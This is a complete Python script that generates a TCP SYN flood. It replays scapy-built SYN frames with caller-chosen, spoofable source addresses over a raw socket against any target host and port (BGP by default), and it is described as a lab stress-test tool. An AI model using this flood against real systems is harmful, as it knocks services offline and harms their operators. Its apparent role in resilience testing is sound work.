#!/usr/bin/python3
"""A TCP SYN flood as fast as one core can write frames (lab tests, run in a netns).

  syn_flood.py --iface IF --src-mac M --dst-mac M --src A --dst A --dport P --seconds S
      writes Ethernet/IPv4/TCP SYN frames (source ports cycling over 4096 values, correct checksums)
      on a raw AF_PACKET socket for S seconds; prints one JSON line {"sent": n, "seconds": s, "pps": r}.

The frames are built once with scapy and replayed, so the rate is what the socket takes.
"""
import argparse
import json
import socket
import time

from scapy.all import IP, TCP, Ether, raw  # python3-scapy


def main():
    p = argparse.ArgumentParser()
    p.add_argument("--iface", required=True)
    p.add_argument("--src-mac", required=True)
    p.add_argument("--dst-mac", required=True)
    p.add_argument("--src", required=True)
    p.add_argument("--dst", required=True)
    p.add_argument("--dport", type=int, default=179)
    p.add_argument("--seconds", type=float, default=3)
    a = p.parse_args()
    frames = [raw(Ether(src=a.src_mac, dst=a.dst_mac) / IP(src=a.src, dst=a.dst, ttl=64) /
                  TCP(sport=20000 + i, dport=a.dport, flags="S", seq=i * 7919, window=64240))
              for i in range(4096)]
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    s.bind((a.iface, 0))
    send = s.send
    sent = 0
    start = time.monotonic()
    end = start + a.seconds
    while True:
        for f in frames:
            try:
                send(f)
                sent += 1
            except BlockingIOError:
                pass
            except OSError:  # ENOBUFS: the qdisc is full, carry on
                pass
        if time.monotonic() >= end:
            break
    secs = time.monotonic() - start
    print(json.dumps({"sent": sent, "seconds": round(secs, 2), "pps": int(sent / secs)}))


if __name__ == "__main__":
    main()
